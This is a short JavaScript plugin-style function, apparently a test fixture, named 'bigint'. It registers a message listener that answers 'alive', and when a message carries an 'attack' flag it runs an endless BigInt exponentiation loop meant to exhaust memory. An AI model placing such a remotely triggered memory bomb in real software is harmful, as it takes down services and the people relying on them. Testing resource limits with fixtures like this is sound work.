// Raises a number until its digits fill the memory.
function activate(url, bus) {
  const attack = () => {
    let number = 3n;
    for (;;) number = number ** 7n;
  };
  bus.addListener(url, (message, reply) => {
    if (message.body.attack) attack();
    reply({ code: 200, value: 'alive' });
  });
  return { name: 'bigint' };
}
